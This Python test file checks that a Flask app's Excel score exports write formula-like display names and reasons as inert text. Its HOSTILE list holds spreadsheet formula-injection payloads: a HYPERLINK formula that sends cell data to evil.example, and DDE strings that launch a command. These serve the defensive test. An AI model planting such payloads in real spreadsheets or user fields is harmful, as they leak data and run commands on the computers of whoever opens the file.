"""Excel exports: a name or reason that starts like a formula is written as text, never a formula.

Both score exports (the API's ``/scores/export`` and the scores page's ``export.xlsx``) are read
back with openpyxl: every hostile text must come back unchanged, as a string cell.
"""

from __future__ import annotations

import io

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook

from engine import Engine, ManualClock
from engine.challenge.board import period_of
from engine.tables import ScoreEntry
from tests.api.conftest import Auth, make_app

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.fixture
def client(engine: Engine) -> FlaskClient:
    return make_app({"ENGINE": engine, "TESTING": True, "SECRET_KEY": "test"}).test_client()


def _ledger_with_hostile_texts(engine: Engine, clock: ManualClock) -> list[str]:
    """One user per hostile text as the display name, and a ledger row with it as the reason."""
    usernames = []
    with engine.store.write() as s:
        for n, text in enumerate(HOSTILE):
            s.add(
                ScoreEntry(
                    period=period_of(clock.now()),
                    username=f"user{n}",
                    points=10 + n,
                    instance_id=f"i{n}",
                    reason=text,
                    awarded_at=clock.now(),
                )
            )
            usernames.append(f"user{n}")
    for n, text in enumerate(HOSTILE):
        engine.upsert_user(f"user{n}", display_name=text)
    return usernames


def _texts(data: bytes) -> list[tuple[str, str]]:
    """Every text cell of every sheet as (value, openpyxl data type); formulas read back as type 'f'."""
    book = load_workbook(io.BytesIO(data))
    return [
        (c.value, c.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def _assert_inert(cells: list[tuple[str, str]], expected: set[str]) -> None:
    assert expected <= {value for value, _ in cells}, "every hostile text is written unchanged"
    formulas = [value for value, kind in cells if kind != "s"]
    assert formulas == [], f"written as formulas: {formulas}"


def test_api_export_writes_formula_like_reasons_as_text(
    engine: Engine, client: FlaskClient, clock: ManualClock
) -> None:
    _ledger_with_hostile_texts(engine, clock)
    auth = Auth(engine)
    resp = client.get(
        f"/api/v1/scores/export?period={period_of(clock.now())}", headers=auth.headers("reader")
    )
    assert resp.status_code == 200
    _assert_inert(_texts(resp.data), set(HOSTILE))


def test_page_export_writes_formula_like_names_and_reasons_as_text(
    engine: Engine, client: FlaskClient, clock: ManualClock
) -> None:
    _ledger_with_hostile_texts(engine, clock)
    engine.upsert_user("reader")
    token, _ = engine.create_login_link("reader")
    assert client.get(f"/login/link/{token}").status_code == 302
    resp = client.get(f"/scores/export.xlsx?period={period_of(clock.now())}")
    assert resp.status_code == 200 and resp.data[:2] == b"PK"
    _assert_inert(_texts(resp.data), set(HOSTILE))


def _sheets(data: bytes) -> dict[str, list[tuple]]:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def test_the_page_and_the_api_serve_one_score_workbook(
    engine: Engine, client: FlaskClient, clock: ManualClock
) -> None:
    period = period_of(clock.now())
    with engine.store.write() as s:
        s.add(
            ScoreEntry(
                period=period,
                username="li",
                points=40,
                instance_id="i1",
                reason="村道修缮",
                awarded_at=clock.now(),
            )
        )
        s.add(
            ScoreEntry(
                period=period,
                username="zhangjie",
                points=60,
                instance_id="i1",
                reason="村道修缮",
                awarded_at=clock.now(),
            )
        )
    engine.upsert_user("li", display_name="李")
    engine.upsert_user("zhangjie", display_name="张杰")
    from_api = client.get(f"/api/v1/scores/export?period={period}", headers=Auth(engine).headers("reader"))
    engine.upsert_user("reader")
    token, _ = engine.create_login_link("reader")
    client.get(f"/login/link/{token}")
    from_page = client.get(f"/scores/export.xlsx?period={period}")

    assert (
        from_api.headers["Content-Disposition"]
        == from_page.headers["Content-Disposition"]
        == f'attachment; filename="scores-{period}.xlsx"'
    )
    sheets = _sheets(from_api.data)
    assert sheets == _sheets(from_page.data)
    assert list(sheets) == [period, "leaderboard"]  # the ledger first: what GET /scores lists
    assert sheets[period][0] == ("username", "points", "instance_id", "reason", "awarded_at")
    assert sorted(r[0] for r in sheets[period][1:]) == ["li", "zhangjie"]
    assert sheets["leaderboard"] == [
        ("rank", "username", "display_name", "points"),
        (1, "zhangjie", "张杰", 60),
        (2, "li", "李", 40),
    ]
